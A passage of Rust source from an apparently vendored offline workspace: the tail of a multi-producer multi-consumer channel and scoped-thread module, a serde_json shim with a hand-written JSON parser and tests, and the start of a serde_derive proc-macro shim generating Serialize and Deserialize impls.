    //! Unbounded and bounded multi-producer multi-consumer FIFO channels.

    use std::collections::VecDeque;
    use std::sync::atomic::{AtomicUsize, Ordering};
    use std::sync::{Arc, Condvar, Mutex};

    struct Inner<T> {
        queue: Mutex<VecDeque<T>>,
        ready: Condvar,
        /// Signalled when a bounded queue drains below capacity.
        vacancy: Condvar,
        /// `usize::MAX` for unbounded channels.
        capacity: usize,
        senders: AtomicUsize,
        receivers: AtomicUsize,
    }

    /// The sending half; cloneable.
    pub struct Sender<T> {
        inner: Arc<Inner<T>>,
    }

    /// The receiving half; cloneable (MPMC).
    pub struct Receiver<T> {
        inner: Arc<Inner<T>>,
    }

    /// Error returned when all receivers are gone; carries the message.
    #[derive(Debug, PartialEq, Eq)]
    pub struct SendError<T>(pub T);

    /// Error returned when the channel is empty and all senders are gone.
    #[derive(Debug, Clone, Copy, PartialEq, Eq)]
    pub struct RecvError;

    /// Error for non-blocking receive attempts.
    #[derive(Debug, Clone, Copy, PartialEq, Eq)]
    pub enum TryRecvError {
        /// Channel currently empty, but senders remain.
        Empty,
        /// Channel empty and all senders dropped.
        Disconnected,
    }

    fn with_capacity<T>(capacity: usize) -> (Sender<T>, Receiver<T>) {
        let inner = Arc::new(Inner {
            queue: Mutex::new(VecDeque::new()),
            ready: Condvar::new(),
            vacancy: Condvar::new(),
            capacity,
            senders: AtomicUsize::new(1),
            receivers: AtomicUsize::new(1),
        });
        (
            Sender {
                inner: inner.clone(),
            },
            Receiver { inner },
        )
    }

    /// Creates an unbounded channel.
    pub fn unbounded<T>() -> (Sender<T>, Receiver<T>) {
        with_capacity(usize::MAX)
    }

    /// Creates a bounded channel holding at most `cap` queued messages.
    /// `send` blocks while the queue is full (backpressure) until a
    /// receiver drains it or every receiver is dropped.
    pub fn bounded<T>(cap: usize) -> (Sender<T>, Receiver<T>) {
        with_capacity(cap.max(1))
    }

    impl<T> Sender<T> {
        /// Enqueues a message, blocking while a bounded queue is full;
        /// fails when every receiver is dropped.
        pub fn send(&self, value: T) -> Result<(), SendError<T>> {
            if self.inner.receivers.load(Ordering::Acquire) == 0 {
                return Err(SendError(value));
            }
            let mut queue = self.inner.queue.lock().expect("channel poisoned");
            while queue.len() >= self.inner.capacity {
                if self.inner.receivers.load(Ordering::Acquire) == 0 {
                    return Err(SendError(value));
                }
                queue = self.inner.vacancy.wait(queue).expect("channel poisoned");
            }
            queue.push_back(value);
            drop(queue);
            self.inner.ready.notify_one();
            Ok(())
        }
    }

    impl<T> Clone for Sender<T> {
        fn clone(&self) -> Self {
            self.inner.senders.fetch_add(1, Ordering::AcqRel);
            Sender {
                inner: self.inner.clone(),
            }
        }
    }

    impl<T> Drop for Sender<T> {
        fn drop(&mut self) {
            if self.inner.senders.fetch_sub(1, Ordering::AcqRel) == 1 {
                // Taking the lock serializes with receivers between their
                // drained-check and wait, so this wakeup cannot be lost.
                let _queue = self.inner.queue.lock();
                self.inner.ready.notify_all();
            }
        }
    }

    impl<T> Receiver<T> {
        /// Blocks until a message arrives or every sender is dropped.
        pub fn recv(&self) -> Result<T, RecvError> {
            let mut queue = self.inner.queue.lock().expect("channel poisoned");
            loop {
                if let Some(value) = queue.pop_front() {
                    drop(queue);
                    self.inner.vacancy.notify_one();
                    return Ok(value);
                }
                if self.inner.senders.load(Ordering::Acquire) == 0 {
                    return Err(RecvError);
                }
                queue = self.inner.ready.wait(queue).expect("channel poisoned");
            }
        }

        /// Non-blocking receive.
        pub fn try_recv(&self) -> Result<T, TryRecvError> {
            let mut queue = self.inner.queue.lock().expect("channel poisoned");
            if let Some(value) = queue.pop_front() {
                drop(queue);
                self.inner.vacancy.notify_one();
                return Ok(value);
            }
            if self.inner.senders.load(Ordering::Acquire) == 0 {
                Err(TryRecvError::Disconnected)
            } else {
                Err(TryRecvError::Empty)
            }
        }
    }

    impl<T> Clone for Receiver<T> {
        fn clone(&self) -> Self {
            self.inner.receivers.fetch_add(1, Ordering::AcqRel);
            Receiver {
                inner: self.inner.clone(),
            }
        }
    }

    impl<T> Drop for Receiver<T> {
        fn drop(&mut self) {
            if self.inner.receivers.fetch_sub(1, Ordering::AcqRel) == 1 {
                // Wake senders blocked on a full bounded queue so they
                // observe the disconnect instead of waiting forever. The
                // lock serializes with their full-check, so the wakeup
                // cannot slip in before they wait.
                let _queue = self.inner.queue.lock();
                self.inner.vacancy.notify_all();
            }
        }
    }
}

pub mod thread {
    //! Scoped threads with crossbeam's `Result`-returning panic contract.

    use std::panic::{catch_unwind, AssertUnwindSafe};

    /// `Err` carries the panic payload of whichever thread panicked.
    pub type Result<T> = std::thread::Result<T>;

    /// A scope handle; spawn borrows from the enclosing environment.
    pub struct Scope<'scope, 'env: 'scope> {
        inner: &'scope std::thread::Scope<'scope, 'env>,
    }

    /// Handle to one spawned scoped thread.
    pub struct ScopedJoinHandle<'scope, T> {
        inner: std::thread::ScopedJoinHandle<'scope, T>,
    }

    impl<'scope, T> ScopedJoinHandle<'scope, T> {
        /// Waits for the thread and returns its result.
        pub fn join(self) -> Result<T> {
            self.inner.join()
        }
    }

    impl<'scope, 'env> Scope<'scope, 'env> {
        /// Spawns a thread scoped to the enclosing `scope` call. The
        /// closure receives the scope again so it can spawn siblings.
        pub fn spawn<F, T>(&self, f: F) -> ScopedJoinHandle<'scope, T>
        where
            F: FnOnce(&Scope<'scope, 'env>) -> T + Send + 'scope,
            T: Send + 'scope,
        {
            let inner = self.inner;
            ScopedJoinHandle {
                inner: inner.spawn(move || f(&Scope { inner })),
            }
        }
    }

    /// Runs `f` with a scope in which borrowing threads can be spawned.
    /// All threads are joined before returning; if any panicked (and was
    /// not explicitly joined), the panic payload comes back as `Err`.
    pub fn scope<'env, F, R>(f: F) -> Result<R>
    where
        F: for<'scope> FnOnce(&Scope<'scope, 'env>) -> R,
    {
        catch_unwind(AssertUnwindSafe(|| {
            std::thread::scope(|s| f(&Scope { inner: s }))
        }))
    }
}

#[cfg(test)]
mod tests {
    #[test]
    fn channel_mpmc_fifo_and_disconnect() {
        let (tx, rx) = super::channel::unbounded::<u32>();
        let rx2 = rx.clone();
        tx.send(1).unwrap();
        tx.send(2).unwrap();
        assert_eq!(rx.recv(), Ok(1));
        assert_eq!(rx2.recv(), Ok(2));
        drop(tx);
        assert!(rx.recv().is_err());
    }

    #[test]
    fn send_to_closed_returns_message() {
        let (tx, rx) = super::channel::unbounded::<u32>();
        drop(rx);
        assert_eq!(tx.send(9), Err(super::channel::SendError(9)));
    }

    #[test]
    fn bounded_send_blocks_until_drained() {
        let (tx, rx) = super::channel::bounded::<u32>(2);
        tx.send(1).unwrap();
        tx.send(2).unwrap();
        // The third send must block until the receiver drains a slot.
        let handle = std::thread::spawn(move || tx.send(3));
        std::thread::sleep(std::time::Duration::from_millis(20));
        assert_eq!(rx.recv(), Ok(1));
        handle.join().unwrap().unwrap();
        assert_eq!(rx.recv(), Ok(2));
        assert_eq!(rx.recv(), Ok(3));
        assert!(rx.recv().is_err(), "all senders dropped");
    }

    #[test]
    fn bounded_send_unblocks_on_receiver_drop() {
        let (tx, rx) = super::channel::bounded::<u32>(1);
        tx.send(1).unwrap();
        let handle = std::thread::spawn(move || tx.send(2));
        std::thread::sleep(std::time::Duration::from_millis(20));
        drop(rx);
        assert_eq!(handle.join().unwrap(), Err(super::channel::SendError(2)));
    }

    #[test]
    fn scope_joins_and_reports_panics() {
        let ok: super::thread::Result<u32> = super::thread::scope(|s| {
            let h = s.spawn(|_| 21);
            h.join().unwrap() * 2
        });
        assert_eq!(ok.unwrap(), 42);

        let bad = super::thread::scope(|s| {
            s.spawn(|_| panic!("worker died"));
        });
        assert!(bad.is_err());
    }
}
