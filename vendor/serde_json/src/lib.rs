//! Offline shim for `serde_json`: text encoding and parsing for the
//! vendored serde model. Covers the workspace's call surface —
//! `to_string`, `to_string_pretty`, `to_value`, `from_str`, `json!`,
//! and [`Value`] inspection.

#![forbid(unsafe_code)]

pub use serde::{Error, Num, Value};

/// Converts any serializable value into a [`Value`] tree.
pub fn to_value<T: serde::Serialize>(value: T) -> Result<Value, Error> {
    Ok(value.to_json())
}

/// Compact single-line JSON.
pub fn to_string<T: serde::Serialize + ?Sized>(value: &T) -> Result<String, Error> {
    Ok(value.to_json().to_compact_string())
}

/// Pretty-printed JSON with two-space indentation.
pub fn to_string_pretty<T: serde::Serialize + ?Sized>(value: &T) -> Result<String, Error> {
    Ok(value.to_json().to_pretty_string())
}

/// Parses JSON text into any deserializable type.
pub fn from_str<T: serde::Deserialize>(s: &str) -> Result<T, Error> {
    let mut parser = Parser {
        bytes: s.as_bytes(),
        pos: 0,
    };
    parser.skip_ws();
    let value = parser.parse_value()?;
    parser.skip_ws();
    if parser.pos != parser.bytes.len() {
        return Err(Error::msg(format!(
            "trailing characters at offset {}",
            parser.pos
        )));
    }
    T::from_json(&value)
}

/// Builds a [`Value`] literal. Supports the forms the workspace uses:
/// `json!(null)`, `json!([..])`, flat `json!({ "key": expr, .. })`, and
/// `json!(expr)` for any serializable expression.
#[macro_export]
macro_rules! json {
    (null) => { $crate::Value::Null };
    ([ $($elem:expr),* $(,)? ]) => {
        $crate::Value::Array(vec![ $( $crate::to_value(&$elem).expect("infallible") ),* ])
    };
    ({ $($key:tt : $value:expr),* $(,)? }) => {
        $crate::Value::Object(vec![
            $( (($key).to_string(), $crate::to_value(&$value).expect("infallible")) ),*
        ])
    };
    ($other:expr) => { $crate::to_value(&$other).expect("infallible") };
}

struct Parser<'a> {
    bytes: &'a [u8],
    pos: usize,
}

impl<'a> Parser<'a> {
    fn skip_ws(&mut self) {
        while let Some(&b) = self.bytes.get(self.pos) {
            if matches!(b, b' ' | b'\t' | b'\n' | b'\r') {
                self.pos += 1;
            } else {
                break;
            }
        }
    }

    fn peek(&self) -> Option<u8> {
        self.bytes.get(self.pos).copied()
    }

    fn expect(&mut self, b: u8) -> Result<(), Error> {
        if self.peek() == Some(b) {
            self.pos += 1;
            Ok(())
        } else {
            Err(Error::msg(format!(
                "expected `{}` at offset {}",
                b as char, self.pos
            )))
        }
    }

    fn parse_value(&mut self) -> Result<Value, Error> {
        match self.peek() {
            Some(b'n') => self.parse_keyword("null", Value::Null),
            Some(b't') => self.parse_keyword("true", Value::Bool(true)),
            Some(b'f') => self.parse_keyword("false", Value::Bool(false)),
            Some(b'"') => Ok(Value::Str(self.parse_string()?)),
            Some(b'[') => self.parse_array(),
            Some(b'{') => self.parse_object(),
            Some(b'-' | b'0'..=b'9') => self.parse_number(),
            other => Err(Error::msg(format!(
                "unexpected {:?} at offset {}",
                other.map(|b| b as char),
                self.pos
            ))),
        }
    }

    fn parse_keyword(&mut self, word: &str, value: Value) -> Result<Value, Error> {
        if self.bytes[self.pos..].starts_with(word.as_bytes()) {
            self.pos += word.len();
            Ok(value)
        } else {
            Err(Error::msg(format!(
                "invalid literal at offset {}",
                self.pos
            )))
        }
    }

    fn parse_number(&mut self) -> Result<Value, Error> {
        let start = self.pos;
        if self.peek() == Some(b'-') {
            self.pos += 1;
        }
        let mut is_float = false;
        while let Some(b) = self.peek() {
            match b {
                b'0'..=b'9' => self.pos += 1,
                b'.' | b'e' | b'E' | b'+' | b'-' => {
                    is_float = true;
                    self.pos += 1;
                }
                _ => break,
            }
        }
        let text = std::str::from_utf8(&self.bytes[start..self.pos])
            .map_err(|_| Error::msg("invalid number bytes"))?;
        if !is_float {
            if let Ok(v) = text.parse::<u64>() {
                return Ok(Value::Num(Num::U(v)));
            }
            if let Ok(v) = text.parse::<i64>() {
                return Ok(Value::Num(Num::I(v)));
            }
        }
        text.parse::<f64>()
            .map(|v| Value::Num(Num::F(v)))
            .map_err(|_| Error::msg(format!("invalid number `{text}`")))
    }

    fn parse_string(&mut self) -> Result<String, Error> {
        self.expect(b'"')?;
        let mut out = String::new();
        loop {
            match self.peek() {
                None => return Err(Error::msg("unterminated string")),
                Some(b'"') => {
                    self.pos += 1;
                    return Ok(out);
                }
                Some(b'\\') => {
                    self.pos += 1;
                    match self.peek() {
                        Some(b'"') => out.push('"'),
                        Some(b'\\') => out.push('\\'),
                        Some(b'/') => out.push('/'),
                        Some(b'n') => out.push('\n'),
                        Some(b'r') => out.push('\r'),
                        Some(b't') => out.push('\t'),
                        Some(b'b') => out.push('\u{8}'),
                        Some(b'f') => out.push('\u{c}'),
                        Some(b'u') => {
                            self.pos += 1;
                            let first = self.parse_hex4()?;
                            let scalar = if (0xD800..0xDC00).contains(&first) {
                                // Surrogate pair: expect \uXXXX low half.
                                self.expect(b'\\')?;
                                self.expect(b'u')?;
                                let low = self.parse_hex4()?;
                                0x10000 + ((first - 0xD800) << 10) + (low - 0xDC00)
                            } else {
                                first
                            };
                            out.push(
                                char::from_u32(scalar)
                                    .ok_or_else(|| Error::msg("invalid \\u escape"))?,
                            );
                            // parse_hex4 leaves pos past the digits; skip
                            // the shared `pos += 1` below.
                            continue;
                        }
                        _ => return Err(Error::msg("invalid escape")),
                    }
                    self.pos += 1;
                }
                Some(_) => {
                    // Consume one UTF-8 code point.
                    let rest = std::str::from_utf8(&self.bytes[self.pos..])
                        .map_err(|_| Error::msg("invalid UTF-8 in string"))?;
                    let c = rest.chars().next().expect("non-empty");
                    out.push(c);
                    self.pos += c.len_utf8();
                }
            }
        }
    }

    fn parse_hex4(&mut self) -> Result<u32, Error> {
        let end = self.pos + 4;
        if end > self.bytes.len() {
            return Err(Error::msg("truncated \\u escape"));
        }
        let digits = std::str::from_utf8(&self.bytes[self.pos..end])
            .map_err(|_| Error::msg("invalid \\u escape"))?;
        let v = u32::from_str_radix(digits, 16).map_err(|_| Error::msg("invalid \\u escape"))?;
        self.pos = end;
        Ok(v)
    }

    fn parse_array(&mut self) -> Result<Value, Error> {
        self.expect(b'[')?;
        let mut items = Vec::new();
        self.skip_ws();
        if self.peek() == Some(b']') {
            self.pos += 1;
            return Ok(Value::Array(items));
        }
        loop {
            self.skip_ws();
            items.push(self.parse_value()?);
            self.skip_ws();
            match self.peek() {
                Some(b',') => self.pos += 1,
                Some(b']') => {
                    self.pos += 1;
                    return Ok(Value::Array(items));
                }
                _ => return Err(Error::msg(format!("expected , or ] at {}", self.pos))),
            }
        }
    }

    fn parse_object(&mut self) -> Result<Value, Error> {
        self.expect(b'{')?;
        let mut pairs = Vec::new();
        self.skip_ws();
        if self.peek() == Some(b'}') {
            self.pos += 1;
            return Ok(Value::Object(pairs));
        }
        loop {
            self.skip_ws();
            let key = self.parse_string()?;
            self.skip_ws();
            self.expect(b':')?;
            self.skip_ws();
            let value = self.parse_value()?;
            pairs.push((key, value));
            self.skip_ws();
            match self.peek() {
                Some(b',') => self.pos += 1,
                Some(b'}') => {
                    self.pos += 1;
                    return Ok(Value::Object(pairs));
                }
                _ => return Err(Error::msg(format!("expected , or }} at {}", self.pos))),
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn parse_round_trip() {
        let text = r#"{"a": [1, -2, 2.5, true, null, "x\ny"], "b": {"c": 18446744073709551612}}"#;
        let v: Value = from_str(text).unwrap();
        assert_eq!(v["a"][0].as_u64(), Some(1));
        assert_eq!(v["a"][1].as_i64(), Some(-2));
        assert_eq!(v["a"][2].as_f64(), Some(2.5));
        assert_eq!(v["a"][5].as_str(), Some("x\ny"));
        assert_eq!(v["b"]["c"].as_u64(), Some(18_446_744_073_709_551_612));
        let back: Value = from_str(&to_string(&v).unwrap()).unwrap();
        assert_eq!(back, v);
        let pretty: Value = from_str(&to_string_pretty(&v).unwrap()).unwrap();
        assert_eq!(pretty, v);
    }

    #[test]
    fn json_macro_shapes() {
        let v = json!({
            "name": "app",
            "count": 3usize,
            "ratio": 0.5,
        });
        assert_eq!(v["name"].as_str(), Some("app"));
        assert_eq!(v["count"].as_u64(), Some(3));
        assert_eq!(v["ratio"].as_f64(), Some(0.5));
        assert_eq!(json!(null), Value::Null);
        assert_eq!(json!([1u8, 2u8])[1].as_u64(), Some(2));
    }

    #[test]
    fn rejects_garbage() {
        assert!(from_str::<Value>("{\"a\": }").is_err());
        assert!(from_str::<Value>("[1, 2").is_err());
        assert!(from_str::<Value>("nul").is_err());
        assert!(from_str::<Value>("1 2").is_err());
    }

    #[test]
    fn missing_index_is_null() {
        let v: Value = from_str(r#"{"x": 1}"#).unwrap();
        assert!(v["y"].is_null());
        assert!(v["x"]["deep"].is_null());
    }
}
