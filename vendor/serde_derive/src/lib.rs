//! Offline shim for `serde_derive`: `#[derive(Serialize)]` and
//! `#[derive(Deserialize)]` for the simplified serde model vendored in
//! this workspace (`Serialize::to_json` / `Deserialize::from_json` over
//! `serde::Value`). The input is parsed directly from the token stream —
//! no `syn`/`quote` — which is enough because the workspace only uses the
//! `#[serde(skip)]` field attribute and no generic serialized types.
//!
//! Encoding follows serde's externally-tagged default:
//! unit variant → `"Name"`, newtype variant → `{"Name": inner}`,
//! tuple variant → `{"Name": [..]}`, struct variant → `{"Name": {..}}`.
//! A named field marked `#[serde(skip)]` is omitted on serialize and
//! reconstructed with `Default::default()` on deserialize, exactly as in
//! real serde.

use proc_macro::{Delimiter, TokenStream, TokenTree};
use std::fmt::Write;
use std::iter::Peekable;

enum Shape {
    NamedStruct {
        name: String,
        fields: Vec<Field>,
    },
    TupleStruct {
        name: String,
        arity: usize,
    },
    UnitStruct {
        name: String,
    },
    Enum {
        name: String,
        variants: Vec<Variant>,
    },
}

struct Field {
    name: String,
    skip: bool,
}

struct Variant {
    name: String,
    kind: VariantKind,
}

enum VariantKind {
    Unit,
    Tuple(usize),
    Named(Vec<Field>),
}

/// Whether an attribute's bracketed token stream is `serde(skip)`
/// (possibly among other serde options; only `skip` is recognised).
fn attr_is_serde_skip(stream: TokenStream) -> bool {
    let mut iter = stream.into_iter();
    match iter.next() {
        Some(TokenTree::Ident(id)) if id.to_string() == "serde" => {}
        _ => return false,
    }
    match iter.next() {
        Some(TokenTree::Group(g)) if g.delimiter() == Delimiter::Parenthesis => g
            .stream()
            .into_iter()
            .any(|t| matches!(&t, TokenTree::Ident(id) if id.to_string() == "skip")),
        _ => false,
    }
}

/// Skips leading `#[...]` attributes and a `pub`/`pub(...)` visibility.
/// Returns whether any skipped attribute was `#[serde(skip)]`.
fn skip_attrs_and_vis(iter: &mut Peekable<impl Iterator<Item = TokenTree>>) -> bool {
    let mut skip = false;
    loop {
        match iter.peek() {
            Some(TokenTree::Punct(p)) if p.as_char() == '#' => {
                iter.next();
                if let Some(TokenTree::Group(g)) = iter.next() {
                    if attr_is_serde_skip(g.stream()) {
                        skip = true;
                    }
                }
            }
            Some(TokenTree::Ident(id)) if id.to_string() == "pub" => {
                iter.next();
                if let Some(TokenTree::Group(g)) = iter.peek() {
                    if g.delimiter() == Delimiter::Parenthesis {
                        iter.next();
                    }
                }
            }
            _ => return skip,
        }
    }
}

/// Collects named fields (name + `#[serde(skip)]` flag), skipping their
/// types. Commas inside angle brackets are not separators; groups are
/// atomic tokens so commas inside `(..)`/`[..]` never surface here.
fn parse_named_fields(stream: TokenStream) -> Vec<Field> {
    let mut iter = stream.into_iter().peekable();
    let mut fields = Vec::new();
    loop {
        let skip = skip_attrs_and_vis(&mut iter);
        match iter.next() {
            Some(TokenTree::Ident(id)) => fields.push(Field {
                name: id.to_string(),
                skip,
            }),
            None => return fields,
            Some(t) => panic!("serde derive shim: expected field name, got `{t}`"),
        }
        match iter.next() {
            Some(TokenTree::Punct(p)) if p.as_char() == ':' => {}
            t => panic!("serde derive shim: expected `:` after field name, got `{t:?}`"),
        }
        let mut angle_depth = 0i32;
        loop {
            match iter.next() {
                Some(TokenTree::Punct(p)) if p.as_char() == '<' => angle_depth += 1,
                Some(TokenTree::Punct(p)) if p.as_char() == '>' => angle_depth -= 1,
                Some(TokenTree::Punct(p)) if p.as_char() == ',' && angle_depth == 0 => break,
                Some(_) => {}
                None => return fields,
            }
        }
    }
}

/// Counts tuple-struct / tuple-variant fields.
fn count_tuple_fields(stream: TokenStream) -> usize {
    let mut arity = 0usize;
    let mut in_field = false;
    let mut angle_depth = 0i32;
    for tt in stream {
        match tt {
            TokenTree::Punct(p) if p.as_char() == '<' => angle_depth += 1,
            TokenTree::Punct(p) if p.as_char() == '>' => angle_depth -= 1,
            TokenTree::Punct(p) if p.as_char() == ',' && angle_depth == 0 => in_field = false,
            _ => {
                if !in_field {
                    arity += 1;
                    in_field = true;
                }
            }
        }
    }
    arity
}

fn parse_variants(stream: TokenStream) -> Vec<Variant> {
    let mut iter = stream.into_iter().peekable();
    let mut variants = Vec::new();
    loop {
        skip_attrs_and_vis(&mut iter);
        let name = match iter.next() {
            Some(TokenTree::Ident(id)) => id.to_string(),
            None => return variants,
            Some(t) => panic!("serde derive shim: expected variant name, got `{t}`"),
        };
        let kind = match iter.peek() {
            Some(TokenTree::Group(g)) if g.delimiter() == Delimiter::Parenthesis => {
                let arity = count_tuple_fields(g.stream());
                iter.next();
                VariantKind::Tuple(arity)
            }
            Some(TokenTree::Group(g)) if g.delimiter() == Delimiter::Brace => {
                let fields = parse_named_fields(g.stream());
                iter.next();
                VariantKind::Named(fields)
            }
            _ => VariantKind::Unit,
        };
        variants.push(Variant { name, kind });
        // Skip an optional `= discriminant` and the trailing comma.
        loop {
            match iter.next() {
                Some(TokenTree::Punct(p)) if p.as_char() == ',' => break,
                Some(_) => {}
                None => return variants,
            }
        }
    }
}

fn parse_input(input: TokenStream) -> Shape {
    let mut iter = input.into_iter().peekable();
    skip_attrs_and_vis(&mut iter);
    let keyword = match iter.next() {
        Some(TokenTree::Ident(id)) => id.to_string(),
        t => panic!("serde derive shim: expected `struct` or `enum`, got `{t:?}`"),
    };
    let name = match iter.next() {
        Some(TokenTree::Ident(id)) => id.to_string(),
        t => panic!("serde derive shim: expected type name, got `{t:?}`"),
    };
    if let Some(TokenTree::Punct(p)) = iter.peek() {
        if p.as_char() == '<' {
            panic!("serde derive shim: generic type `{name}` is not supported");
        }
    }
    match keyword.as_str() {
        "struct" => match iter.next() {
            None => Shape::UnitStruct { name },
            Some(TokenTree::Punct(p)) if p.as_char() == ';' => Shape::UnitStruct { name },
            Some(TokenTree::Group(g)) if g.delimiter() == Delimiter::Brace => Shape::NamedStruct {
                name,
                fields: parse_named_fields(g.stream()),
            },
            Some(TokenTree::Group(g)) if g.delimiter() == Delimiter::Parenthesis => {
                Shape::TupleStruct {
                    name,
                    arity: count_tuple_fields(g.stream()),
                }
            }
            Some(t) => panic!("serde derive shim: unexpected token `{t}` in struct {name}"),
        },
        "enum" => match iter.next() {
            Some(TokenTree::Group(g)) if g.delimiter() == Delimiter::Brace => Shape::Enum {
                name,
                variants: parse_variants(g.stream()),
            },
            t => panic!("serde derive shim: expected enum body, got `{t:?}`"),
        },
        other => panic!("serde derive shim: cannot derive for `{other}` items"),
    }
}

#[proc_macro_derive(Serialize, attributes(serde))]
pub fn derive_serialize(input: TokenStream) -> TokenStream {
    let shape = parse_input(input);
    let mut out = String::new();
    match &shape {
        Shape::NamedStruct { name, fields } => {
            let mut pairs = String::new();
            for f in fields.iter().filter(|f| !f.skip) {
                let f = &f.name;
                write!(
                    pairs,
                    "(\"{f}\".to_string(), serde::Serialize::to_json(&self.{f})),"
                )
                .unwrap();
            }
            write!(
                out,
                "impl serde::Serialize for {name} {{\
                   fn to_json(&self) -> serde::Value {{\
                     serde::Value::Object(vec![{pairs}])\
                   }}\
                 }}"
            )
            .unwrap();
        }
        Shape::TupleStruct { name, arity: 1 } => {
            write!(
                out,
                "impl serde::Serialize for {name} {{\
                   fn to_json(&self) -> serde::Value {{\
                     serde::Serialize::to_json(&self.0)\
                   }}\
                 }}"
            )
            .unwrap();
        }
        Shape::TupleStruct { name, arity } => {
            let mut items = String::new();
            for i in 0..*arity {
                write!(items, "serde::Serialize::to_json(&self.{i}),").unwrap();
            }
            write!(
                out,
                "impl serde::Serialize for {name} {{\
                   fn to_json(&self) -> serde::Value {{\
                     serde::Value::Array(vec![{items}])\
                   }}\
                 }}"
            )
            .unwrap();
        }
        Shape::UnitStruct { name } => {
            write!(
                out,
                "impl serde::Serialize for {name} {{\
                   fn to_json(&self) -> serde::Value {{ serde::Value::Null }}\
                 }}"
            )
            .unwrap();
        }
        Shape::Enum { name, variants } => {
            let mut arms = String::new();
            for v in variants {
                let vname = &v.name;
                match &v.kind {
                    VariantKind::Unit => write!(
                        arms,
                        "{name}::{vname} => serde::Value::Str(\"{vname}\".to_string()),"
                    )
                    .unwrap(),
                    VariantKind::Tuple(1) => write!(
                        arms,
                        "{name}::{vname}(f0) => serde::Value::Object(vec![\
                           (\"{vname}\".to_string(), serde::Serialize::to_json(f0))]),"
                    )
                    .unwrap(),
                    VariantKind::Tuple(arity) => {
                        let binds: Vec<String> = (0..*arity).map(|i| format!("f{i}")).collect();
                        let items: Vec<String> = binds
                            .iter()
                            .map(|b| format!("serde::Serialize::to_json({b})"))
                            .collect();
                        write!(
                            arms,
                            "{name}::{vname}({}) => serde::Value::Object(vec![\
                               (\"{vname}\".to_string(), serde::Value::Array(vec![{}]))]),",
                            binds.join(","),
                            items.join(",")
                        )
                        .unwrap();
                    }
                    VariantKind::Named(fields) => {
                        let binds: Vec<String> = fields
                            .iter()
                            .map(|f| {
                                if f.skip {
                                    format!("{}: _", f.name)
                                } else {
                                    f.name.clone()
                                }
                            })
                            .collect();
                        let pairs: Vec<String> = fields
                            .iter()
                            .filter(|f| !f.skip)
                            .map(|f| {
                                let f = &f.name;
                                format!("(\"{f}\".to_string(), serde::Serialize::to_json({f}))")
                            })
                            .collect();
                        write!(
                            arms,
                            "{name}::{vname} {{ {} }} => serde::Value::Object(vec![\
                               (\"{vname}\".to_string(), serde::Value::Object(vec![{}]))]),",
                            binds.join(","),
                            pairs.join(",")
                        )
                        .unwrap();
                    }
                }
            }
            write!(
                out,
                "impl serde::Serialize for {name} {{\
                   fn to_json(&self) -> serde::Value {{\
                     match self {{ {arms} }}\
                   }}\
                 }}"
            )
            .unwrap();
        }
    }
    out.parse().expect("serde derive shim: generated code")
}

#[proc_macro_derive(Deserialize, attributes(serde))]
pub fn derive_deserialize(input: TokenStream) -> TokenStream {
    let shape = parse_input(input);
    let mut out = String::new();
    match &shape {
        Shape::NamedStruct { name, fields } => {
            let mut inits = String::new();
            for f in fields {
                let skip = f.skip;
                let f = &f.name;
                if skip {
                    write!(inits, "{f}: ::std::default::Default::default(),").unwrap();
                } else {
                    write!(
                        inits,
                        "{f}: serde::Deserialize::from_json(serde::__field(v, \"{f}\"))?,"
                    )
                    .unwrap();
                }
            }
            write!(
                out,
                "impl serde::Deserialize for {name} {{\
                   fn from_json(v: &serde::Value) -> ::std::result::Result<Self, serde::Error> {{\
                     ::std::result::Result::Ok({name} {{ {inits} }})\
                   }}\
                 }}"
            )
            .unwrap();
        }
        Shape::TupleStruct { name, arity: 1 } => {
            write!(
                out,
                "impl serde::Deserialize for {name} {{\
                   fn from_json(v: &serde::Value) -> ::std::result::Result<Self, serde::Error> {{\
                     ::std::result::Result::Ok({name}(serde::Deserialize::from_json(v)?))\
                   }}\
                 }}"
            )
            .unwrap();
        }
        Shape::TupleStruct { name, arity } => {
            let items: Vec<String> = (0..*arity)
                .map(|i| format!("serde::Deserialize::from_json(&seq[{i}])?"))
                .collect();
            write!(
                out,
                "impl serde::Deserialize for {name} {{\
                   fn from_json(v: &serde::Value) -> ::std::result::Result<Self, serde::Error> {{\
                     let seq = serde::__seq(v, {arity}usize)?;\
                     ::std::result::Result::Ok({name}({}))\
                   }}\
                 }}",
                items.join(",")
            )
            .unwrap();
        }
        Shape::UnitStruct { name } => {
            write!(
                out,
                "impl serde::Deserialize for {name} {{\
                   fn from_json(v: &serde::Value) -> ::std::result::Result<Self, serde::Error> {{\
                     let _ = v;\
                     ::std::result::Result::Ok({name})\
                   }}\
                 }}"
            )
            .unwrap();
        }
        Shape::Enum { name, variants } => {
            let mut unit_arms = String::new();
            let mut payload_arms = String::new();
            for v in variants {
                let vname = &v.name;
                match &v.kind {
                    VariantKind::Unit => write!(
                        unit_arms,
                        "\"{vname}\" => ::std::result::Result::Ok({name}::{vname}),"
                    )
                    .unwrap(),
                    VariantKind::Tuple(1) => write!(
                        payload_arms,
                        "\"{vname}\" => ::std::result::Result::Ok(\
                           {name}::{vname}(serde::Deserialize::from_json(inner)?)),"
                    )
                    .unwrap(),
                    VariantKind::Tuple(arity) => {
                        let items: Vec<String> = (0..*arity)
                            .map(|i| format!("serde::Deserialize::from_json(&seq[{i}])?"))
                            .collect();
                        write!(
                            payload_arms,
                            "\"{vname}\" => {{\
                               let seq = serde::__seq(inner, {arity}usize)?;\
                               ::std::result::Result::Ok({name}::{vname}({}))\
                             }},",
                            items.join(",")
                        )
                        .unwrap();
                    }
                    VariantKind::Named(fields) => {
                        let inits: Vec<String> = fields
                            .iter()
                            .map(|f| {
                                let skip = f.skip;
                                let f = &f.name;
                                if skip {
                                    format!("{f}: ::std::default::Default::default()")
                                } else {
                                    format!(
                                        "{f}: serde::Deserialize::from_json(serde::__field(inner, \"{f}\"))?"
                                    )
                                }
                            })
                            .collect();
                        write!(
                            payload_arms,
                            "\"{vname}\" => ::std::result::Result::Ok(\
                               {name}::{vname} {{ {} }}),",
                            inits.join(",")
                        )
                        .unwrap();
                    }
                }
            }
            write!(
                out,
                "impl serde::Deserialize for {name} {{\
                   fn from_json(v: &serde::Value) -> ::std::result::Result<Self, serde::Error> {{\
                     match v {{\
                       serde::Value::Str(s) => match s.as_str() {{\
                         {unit_arms}\
                         other => ::std::result::Result::Err(serde::Error::msg(\
                           format!(\"unknown unit variant `{{other}}` for {name}\"))),\
                       }},\
                       serde::Value::Object(pairs) if pairs.len() == 1 => {{\
                         let (tag, inner) = &pairs[0];\
                         let _ = inner;\
                         match tag.as_str() {{\
                           {payload_arms}\
